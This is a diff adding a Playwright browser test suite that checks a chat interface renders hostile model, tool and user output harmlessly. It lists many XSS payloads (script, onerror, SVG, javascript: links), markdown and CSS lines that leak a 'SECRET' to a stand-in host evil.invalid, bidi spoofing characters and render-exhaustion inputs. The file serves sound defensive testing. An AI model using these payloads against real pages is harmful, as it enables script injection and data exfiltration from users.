@@ -1,0 +1,137 @@
+"""What a hostile model, tool or person writes renders harmlessly."""
+
+from __future__ import annotations
+
+import json
+from typing import Any
+
+from playwright.sync_api import expect
+
+from tests.browser.drive import Chat, Screens
+from tests.browser.states import MODEL
+from tests.model_server import ModelServer
+
+EVIL = "http://evil.invalid"
+SCRIPTS = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    f'<img src="{EVIL}/pixel?secret=1">',
+    "<svg onload=alert(1)><script>alert(1)</script></svg>",
+    "<svg><style><img title='</style><img src onerror=alert(1)>'></svg>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
+    "onerror=alert(1)&gt;'>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
+    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<form action=/x><button formaction=javascript:alert(1)>x</button></form>",
+    f"<style>@import '{EVIL}/css'; * {{ background: url({EVIL}/bg) }}</style>",
+    f'<link rel="prefetch" href="{EVIL}/prefetch">',
+    f'<meta http-equiv="refresh" content="0;url={EVIL}">',
+    "{{ constructor.constructor('alert(1)')() }}",
+    "</script><script>alert(1)</script>",
+    "<!--<script>",
+]
+LINKS = [
+    "[a](javascript:alert(1))",
+    "[b](JaVaScRiPt&colon;alert(1))",
+    "[c](data:text/html,<script>alert(1)</script>)",
+    f"![d]({EVIL}/?d=SECRET)",
+    f"![e][r]\n\n[r]: {EVIL}/?e=SECRET",
+    f"[![f]({EVIL}/f)]({EVIL}/g)",
+    "![g](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
+    f"<{EVIL}/auto>",
+    f"$\\includegraphics{{{EVIL}/tex}} \\href{{javascript:alert(1)}}{{x}}$",
+    "$$\\def\\x{\\x\\x}\\x$$",
+    "```html\n<img src=x onerror=alert(1)>\n```",
+    "`" * 5000 + "[" * 5000 + "*" * 5000 + ">" * 3000,
+]
+DIRECTIONS = (
+    "a\u202egpj.exe\u202c b\u200b\u200c\u200d\ufeff c\u2066\u2067\u2068 שלום مرحبا"
+)
+CORPUS = "\n\n".join([*SCRIPTS, *LINKS, DIRECTIONS])
+TABLE = "| n | what |\n|---|---|\n" + "".join(
+    f"| {n} | <img src=x onerror=alert({n})> |\n" for n in range(10_000)
+)
+
+
+def play(model: ModelServer, *rounds: list[dict[str, Any]]) -> None:
+    """What the model answers next."""
+    model.add(MODEL, {"rounds": [{"actions": actions} for actions in rounds]})
+
+
+def assert_harmless(chat: Chat) -> None:
+    """No element that could act, no request, no complaint."""
+    forbidden = (
+        "script, iframe, object, embed, form, svg, style, link, meta, base, input"
+    )
+    found = chat.page.locator(f"#transcript :is({forbidden})").count()
+    assert found == 0
+    assert chat.page.locator("#transcript [style], #transcript [onerror]").count() == 0
+    addresses: list[str] = chat.page.evaluate(
+        "() => [...document.querySelectorAll('#transcript a')].map((a) => a.protocol)"
+    )
+    assert set(addresses) <= {"http:", "https:", "mailto:"}
+    chat.assert_clean()
+
+
+def test_in_messages_thoughts_and_answers(screens: Screens, model: ModelServer) -> None:
+    """And in the title, which is made of the message."""
+    play(model, [{"reasoning": CORPUS, "piece": 400}, {"text": CORPUS, "piece": 400}])
+    chat = screens.chat().open()
+    chat.page.set_default_timeout(60_000)
+    chat.say(SCRIPTS[0] + CORPUS).finished()
+    for card in chat.page.locator(".card__head").all():
+        if card.locator("..").get_attribute("open") is None:
+            card.click()
+    assert_harmless(chat)
+    assert "<script>alert(1)</script>" in chat.text()
+    expect(chat.page.locator("#title")).to_contain_text("<script>")
+    expect(chat.page.locator(".session").first).to_contain_text("<script>")
+    chat.reload()
+    assert_harmless(chat)
+
+
+def test_in_pieces_as_it_streams(screens: Screens, model: ModelServer) -> None:
+    """Half a tag is as harmless as a whole one."""
+    pieces = [*SCRIPTS, *(link for link in LINKS if len(link) < 1000)]
+    play(model, [{"text": "\n\n".join(pieces), "piece": 3, "rate": 250}])
+    chat = screens.chat().open().say("Go")
+    while chat.page.locator('[data-status="finished"]').count() == 0:
+        assert_harmless(chat)
+        chat.page.wait_for_timeout(50)
+    assert_harmless(chat)
+
+
+def test_in_tool_names_arguments_and_results(
+    screens: Screens, model: ModelServer
+) -> None:
+    """The calculator refuses, quoting what it was given."""
+    call = {"name": SCRIPTS[1], "arguments": json.dumps({SCRIPTS[0]: CORPUS})}
+    again = {"name": "calculator", "arguments": {"expression": SCRIPTS[1]}}
+    play(model, [{"call": call}], [{"call": again}], [{"text": "Done. {result}"}])
+    chat = screens.chat().open().say("Go").finished()
+    for card in chat.page.locator(".card__head").all():
+        if card.locator("..").get_attribute("open") is None:
+            card.click()
+    assert_harmless(chat)
+
+
+def test_a_line_of_1_mb(screens: Screens, model: ModelServer) -> None:
+    """Shown as it is; the page goes on answering."""
+    play(model, [{"text": "*a* [b](c " * 100_000, "piece": 20_000}])
+    chat = screens.chat().open().say("Go").finished()
+    shown = chat.page.eval_on_selector(".prose", "e => e.textContent.length")
+    assert shown >= 999_999
+    chat.page.fill("#message", "still here")
+    assert_harmless(chat)
+
+
+def test_a_table_of_10000_rows(screens: Screens, model: ModelServer) -> None:
+    """The first rows, and the rest when asked for."""
+    play(model, [{"text": TABLE, "piece": 20_000}])
+    chat = screens.chat().open().say("Go").finished()
+    rows = chat.page.locator("tbody tr")
+    expect(rows).to_have_count(200)
+    chat.page.get_by_role("button", name="more of 9,800 rows").click()
+    expect(rows).to_have_count(2200)
+    assert_harmless(chat)
